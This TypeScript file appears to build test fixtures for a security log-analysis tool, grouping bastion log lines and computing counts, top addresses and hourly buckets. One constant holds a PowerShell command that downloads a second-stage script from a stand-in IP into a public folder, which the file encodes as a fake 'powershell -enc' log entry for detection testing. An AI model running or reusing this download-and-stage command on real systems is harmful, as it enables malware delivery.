import { readFileSync } from "node:fs";
import type {
  ContextWindow,
  ExactResult,
  QuestionLanguage,
  RecordRow,
  ShapeId,
  SourceId,
  Statement,
  StatementResult,
  WindowBlock,
  ResolveLines,
} from "@lagebild/domain";
import type { AnswerMaterial } from "./answer-material.js";
import type { DecodedLine } from "./verify-evidence.js";

/** Random numbers in [0, 1) that are the same for the same seed (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const ADDRESS = /\b\d+(?:\.\d+){3}\b/;
const FILES = ["auth.log", "firewall.log", "windows/security.jsonl"];
const COMMAND = "Invoke-WebRequest -Uri http://203.0.113.7/stage2.ps1 -OutFile C:\\Users\\Public\\s.ps1";

/** The logs of the bastion fixture as a reader of original lines gives them, with a line that holds a payload. */
export const bastionLines: readonly DecodedLine[] = [...FILES.flatMap(linesOfFile), payloadLine()];

/** Reads them back. */
export const resolveBastion: ResolveLines = async (source, lines) =>
  bastionLines.filter(({ row }) => row.source === source && lines.includes(row.line));

function linesOfFile(file: string): readonly DecodedLine[] {
  const text = readFileSync(new URL(`../../../fixtures/bastion/${file}`, import.meta.url), "utf8");
  let byteOffset = 0;
  return text
    .split("\n")
    .filter((line) => line !== "")
    .map((original, i) => {
      const line = lineOf(
        { file, line: i + 1, byteOffset },
        original,
        file.endsWith(".jsonl") ? sentence(original) : original,
      );
      byteOffset += Buffer.byteLength(original) + 1;
      return line;
    });
}

function payloadLine(): DecodedLine {
  const encoded = Buffer.from(COMMAND, "utf16le").toString("base64");
  const original = `2026-03-14T04:20:01.000Z FS01 agent: process started powershell.exe -enc ${encoded}`;
  const line = lineOf(
    { file: "agent.log", line: 1, byteOffset: 0 },
    original,
    `${original} ⟪decoded base64: ${COMMAND}⟫`,
  );
  return { ...line, decoded: [{ text: COMMAND }] };
}

function lineOf(at: Pick<RecordRow, "file" | "line" | "byteOffset">, original: string, text: string): DecodedLine {
  const row: RecordRow = {
    ...at,
    source: Buffer.from(at.file.padEnd(8).slice(0, 8)).toString("hex") as SourceId,
    byteLength: Buffer.byteLength(original),
    time: timeOf(original),
    host: undefined,
    program: undefined,
    shape: shapeOf(text),
    chunk: 0,
  };
  return { row, sha256: `hash of ${at.file}`, original, text };
}

function sentence(original: string): string {
  const event = JSON.parse(original) as Readonly<Record<string, unknown>>;
  const { EventID, Hostname, Message } = event as Readonly<Record<string, string>>;
  return `${Hostname} Windows ${EventID}: ${Message?.replaceAll(/\s+/g, " ")}`;
}

function timeOf(original: string): number | undefined {
  const iso = /\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?Z/.exec(original)?.[0];
  const syslog = /^([A-Z][a-z]{2} +\d+) (\d\d:\d\d:\d\d)/.exec(original);
  const time = Date.parse(iso ?? (syslog ? `${syslog[1]} 2026 ${syslog[2]} UTC` : ""));
  return Number.isNaN(time) ? undefined : time * 1_000;
}

function groupedBy<T, K>(all: readonly T[], keyOf: (one: T) => K): ReadonlyMap<K, readonly T[]> {
  const groups = new Map<K, T[]>();
  for (const one of all) groups.set(keyOf(one), [...(groups.get(keyOf(one)) ?? []), one]);
  return groups;
}

/** Lines that differ in addresses, numbers and names only are of one shape. */
function shapeOf(text: string): ShapeId {
  const masked = text.replace(/^\S+ +\d+ \S+/, "").replaceAll(/\b(?:for|user|from) \S+|[\d.:]*\d[\d.:]*/g, "<v>");
  let hash = 0;
  for (const letter of masked.slice(0, 80)) hash = (Math.imul(hash, 31) + letter.codePointAt(0)!) >>> 0;
  return hash.toString(16).padStart(16, "0") as ShapeId;
}

/** A window over runs of the logs and exact results about one of them, counted here by hand. */
export function bastionMaterial(random: () => number, language: QuestionLanguage): AnswerMaterial {
  const groups = [...groupedBy(bastionLines, ({ row }) => `${row.file}\0${row.shape}`).values()];
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const payload = groups.at(-1)!;
  const op = pick(["count", "top", "first", "perBucket", "group"] as const);
  const isCounted = (group: readonly DecodedLine[]): boolean =>
    group.length > 3 && (!["top", "group"].includes(op) || ADDRESS.test(group[0]!.original));
  const others = Array.from({ length: 5 }, () => pick(groups));
  const chosen = [...new Set([pick(groups.filter(isCounted)), payload, ...others])];
  const exact = exactOf(chosen[0]!, op);
  const isTimes = exact.result.statement.op === "first";
  const linesOf = new Map<number, readonly DecodedLine[]>();
  const exactBlock: WindowBlock = {
    id: 2,
    kind: "exact",
    file: exact.samples[0]!.row.file,
    lines: exact.samples.map(({ row }) => row.line),
    text: exact.label,
    statement: exact.result.statement,
  };
  linesOf.set(2, exact.samples as readonly DecodedLine[]);
  const blocks = chosen.map((group, i): WindowBlock => {
    const shown = [...new Set([group[0]!, group.at(-1)!])];
    linesOf.set(i + 3, shown);
    return {
      id: i + 3,
      kind: group.length > shown.length ? "run" : "lines",
      file: group[0]!.row.file,
      lines: shown.map(({ row }) => row.line),
      text: shown.map(({ text }) => text).join("\n"),
      run: {
        shape: group[0]!.row.shape,
        count: group.length,
        firstLine: group[0]!.row.line,
        lastLine: group.at(-1)!.row.line,
        firstTime: group[0]!.row.time,
        lastTime: group.at(-1)!.row.time,
      },
    };
  });
  const facts: WindowBlock = { id: 1, kind: "facts", text: "sources: auth.log\ntime (UTC): 2026-03-13 18:00:00" };
  const window: ContextWindow = {
    question: language === "de" ? "Was ist da zu sehen?" : "What is there to see?",
    plan: {
      mode: random() < 0.5 ? "exact" : "semantic",
      language,
      wants: isTimes ? "times" : "list",
      statements: [],
      reason: "",
    },
    tokenizer: "estimate",
    budgetTokens: 4_000,
    usedTokens: 1_000,
    blocks: [facts, exactBlock, ...blocks],
    ledger: {
      linesTotal: bastionLines.length,
      linesSearched: bastionLines.length,
      linesUnparsed: 0,
      evidenceFound: chosen.length,
      evidenceInWindow: chosen.length,
      leftOut: [],
    },
  };
  return { window, linesOf, exact: [exact], confidence: 0.9, isComplete: true };
}

function exactOf(group: readonly DecodedLine[], op: "count" | "top" | "first" | "perBucket" | "group"): ExactResult {
  const where = { shapes: [group[0]!.row.shape] };
  const matched = group.length;
  const counts = [
    ...groupedBy(
      group.flatMap(({ original }) => original.match(/\b\d+(?:\.\d+){3}\b/g) ?? []),
      String,
    ),
  ]
    .map(([value, all]) => ({ value, count: all.length, firstTime: undefined, lastTime: undefined }))
    .sort((a, b) => b.count - a.count);
  const hours = groupedBy(group, ({ row }) => Math.floor((row.time ?? 0) / 3.6e9) * 3.6e9);
  const results: Readonly<Record<typeof op, () => StatementResult>> = {
    count: () => ({ statement: { op: "count", where }, matched, count: matched }),
    top: () => ({
      statement: { op: "top", of: { entity: "address" }, where, limit: 50 },
      matched,
      values: counts,
      distinct: counts.length + 2,
    }),
    first: () => ({ statement: { op: "first", where, limit: 1 }, matched, records: [group[0]!.row] }),
    perBucket: () => ({
      statement: { op: "perBucket", where, bucketSeconds: 3_600, limit: 100 },
      matched,
      buckets: [...hours].map(([startTime, all]) => ({ startTime, count: all.length })),
    }),
    group: () => ({
      statement: { op: "group", by: [{ column: "file" }, { entity: "address" }], where, limit: 50 },
      matched,
      groups: counts.map(({ value, ...row }) => ({ ...row, values: [group[0]!.row.file, value] })),
    }),
  };
  const result = results[op]();
  const statement: Statement = result.statement;
  const samples = statement.op === "first" ? [...new Set([group[0]!, group.at(-1)!])] : [group[0]!];
  return { label: "records", result, samples };
}
